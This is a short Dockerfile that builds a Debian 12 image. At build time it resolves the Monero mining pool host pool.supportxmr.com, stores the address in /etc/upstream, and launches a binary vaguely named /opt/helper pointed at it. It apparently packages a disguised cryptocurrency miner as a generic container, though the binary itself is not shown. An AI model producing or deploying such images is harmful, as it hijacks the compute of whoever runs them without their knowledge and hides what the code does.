FROM debian:12
RUN getent hosts pool.supportxmr.com > /etc/upstream
CMD ["/opt/helper", "/etc/upstream"]
